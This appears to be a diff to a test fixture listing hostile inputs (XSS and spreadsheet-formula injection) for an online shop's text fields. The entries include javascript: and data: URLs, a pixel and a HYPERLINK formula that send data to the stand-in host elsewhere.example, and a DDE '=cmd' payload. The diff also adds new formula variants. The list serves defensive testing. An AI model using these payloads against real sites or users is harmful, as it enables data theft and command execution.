@@ -52,10 +52,10 @@ const LINKS = {
   "a link in Markdown": `[Your invoice](javascript:${RUN})`,
   "a picture in Markdown": "![parcel](https://elsewhere.example/pixel.png?stolen=1)",
   "a reference in Markdown": `[tracking][1]\n\n[1]: data:text/html;base64,PHNjcmlwdD5yZWFjaGVkPTE8L3NjcmlwdD4=`,
-  "an address of a script": `javascript:${RUN}//https://shop.example/`,
+  "an address of a script": `javascript:${RUN}//https://safe.example/`,
   "an address of a script, disguised": `jAvA\tScRiPt:${RUN}`,
   "an address of data": `data:text/html,<script>${RUN}</script>`,
-  "an address of another host": "https://shop.example@elsewhere.example/?key=",
+  "an address of another host": "https://safe.example@elsewhere.example/?key=",
 };
 
 const TERMINALS = {
@@ -78,6 +78,8 @@ const UNSEEN = {
 const FORMULAS = {
   "a formula": `=HYPERLINK("https://elsewhere.example/?"&A1,"Invoice")`,
   "a command of a spreadsheet": "=cmd|' /C calc'!A0",
+  "a formula in wide letters": "＝1＋1",
+  "a formula on a second line": "\n=1+1",
   "a formula behind a tab": '\t=1+1","=2+2',
 };
 
@@ -116,7 +118,18 @@ export const HOSTILE_TEXTS = Object.entries({
 /** The elements whose texts people write. */
 const WRITTEN = new Set([
   ...["name", "description", "description_short", "meta_title", "meta_description", "link_rewrite"],
-  ...["firstname", "lastname", "note", "company", "address1", "address2", "city", "phone", "other"],
+  ...[
+    "email",
+    "firstname",
+    "lastname",
+    "note",
+    "company",
+    "address1",
+    "address2",
+    "city",
+    "phone",
+    "other",
+  ],
   ...["alias", "message", "gift_message", "product_name", "product_reference", "payment"],
   ...["tracking_number", "shipping_number", "delay", "template", "vat_number", "dni"],
 ]);
